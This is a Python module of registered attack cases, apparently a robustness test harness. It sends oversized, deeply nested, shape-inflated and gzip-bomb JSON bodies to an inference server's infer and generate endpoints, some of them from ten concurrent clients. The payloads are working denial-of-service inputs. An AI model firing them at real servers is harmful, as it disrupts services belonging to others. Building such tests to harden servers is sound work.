"""JSON over HTTP: documents that claim, nest or repeat more than they carry, and large ones."""

import gzip
import json

import raw_http
from registry import attack

INFER = "/v2/models/{}/infer"
CLAIM = b'{"name":"I%d","shape":[99999999],"datatype":"BYTES","data":[""]}'


def claims():
    """25 MB of inputs, each of which says that it has a hundred million strings."""
    return b'{"inputs":[' + b",".join(CLAIM % number for number in range(380_000)) + b"]}"


def packed(body):
    return gzip.compress(body, 6)


def large(megabytes):
    """An inference of FP32 numbers written in JSON."""
    count = megabytes * 1_000_000 // 8
    data = b",".join([b"1.25000"] * count)
    return b'{"inputs":[{"name":"INPUT0","shape":[%d],"datatype":"FP32","data":[%s]}]}' % (count, data)


@attack("json-claims", triton=True)
def json_claims(target):
    """25 MB of JSON whose BYTES inputs each claim a hundred million strings"""
    return target.heavy(2, raw_http.post(INFER.format("strings"), claims()), 2)


@attack("json-claims-gzip", triton=True)
def json_claims_gzip(target):
    """the same packed with gzip"""
    sent = raw_http.post(INFER.format("strings"), packed(claims()), Content_Encoding="gzip")
    return f"{len(sent) // 1000} KB sent: " + target.heavy(2, sent, 2)


@attack("json-claims-numbers")
def json_claims_numbers(target):
    """25 MB of inputs of numbers whose shapes claim what their data does not have"""
    one = b'{"name":"INPUT0","shape":[99999999],"datatype":"FP64","data":[]}'
    body = b'{"inputs":[' + b",".join([one] * 380_000) + b"]}"
    return target.heavy(2, raw_http.post(INFER.format("vector"), body), 2)


@attack("json-30mb", triton=True)
def json_30mb(target):
    """ten clients with 30 MB of JSON numbers each"""
    return target.heavy(10, raw_http.post(INFER.format("vector"), large(30)))


@attack("json-30mb-strings")
def json_30mb_strings(target):
    """ten clients with 30 MB of JSON strings each, two characters long"""
    count = 6_000_000
    data = b",".join([b'"ab"'] * count)
    body = b'{"inputs":[{"name":"INPUT0","shape":[%d],"datatype":"BYTES","data":[%s]}]}' % (count, data)
    return target.heavy(10, raw_http.post(INFER.format("strings"), body))


@attack("json-gzip-small-bodies", triton=True)
def gzip_small(target):
    """ten clients with 60 KB of gzip that inflate to 60 MB"""
    body = b'{"inputs":[]' + b" " * 60_000_000 + b"}"
    sent = raw_http.post(INFER.format("vector"), packed(body), Content_Encoding="gzip")
    return f"{len(sent) // 1000} KB sent: " + target.heavy(10, sent)


@attack("json-gzip-tiny-bodies")
def gzip_tiny(target):
    """ten clients with 1 KB of gzip that inflate to 1 MB, as fast as they can"""
    body = b'{"inputs":[]' + b" " * 1_000_000 + b"}"
    return target.heavy(10, raw_http.post(INFER.format("vector"), packed(body), Content_Encoding="gzip"))


@attack("json-generate-20mb", triton=True)
def generate_20mb(target):
    """ten clients with generate bodies of 20 MB"""
    count = 20_000_000 // 5
    body = b'{"INPUT0":[' + b",".join([b"1.25"] * count) + b"]}"
    return target.heavy(10, raw_http.post("/v2/models/vector/generate", body))


@attack("json-generate-parameters")
def generate_parameters(target):
    """ten clients with generate bodies of 400,000 parameters"""
    body = json.dumps({"INPUT0": [1.0], **{f"parameter_{n}": n for n in range(400_000)}}).encode()
    return target.heavy(10, raw_http.post("/v2/models/vector/generate", body), 3)


@attack("json-million-outputs", triton=True)
def million_outputs(target):
    """a request that names a million outputs, from four clients"""
    body = b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":[1]}],"outputs":['
    body += b",".join([b'{"name":"OUTPUT0"}'] * 1_000_000) + b"]}"
    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)


@attack("json-million-parameters", triton=True)
def million_parameters(target):
    """a request with a million parameters, from four clients"""
    parameters = b",".join(b'"p%d":1' % n for n in range(1_000_000))
    body = b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":[1]}],"parameters":{%s}}' % parameters
    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)


@attack("json-deep", triton=True)
def deep(target):
    """ten million brackets, as a value and as tensor data"""
    brackets = b"[" * 10_000_000
    value = raw_http.post(INFER.format("vector"), b'{"id":' + brackets)
    data = raw_http.post(INFER.format("vector"), b'{"inputs":[{"name":"INPUT0","shape":[1],"datatype":"FP32","data":' + brackets)
    return target.heavy(2, value, 1) + "; " + target.heavy(2, data, 1)


@attack("json-long-shape")
def long_shape(target):
    """a shape of ten million ones"""
    shape = b",".join([b"1"] * 10_000_000)
    body = b'{"inputs":[{"name":"INPUT0","shape":[%s],"datatype":"FP32","data":[1]}]}' % shape
    return target.heavy(4, raw_http.post(INFER.format("vector"), body), 2)
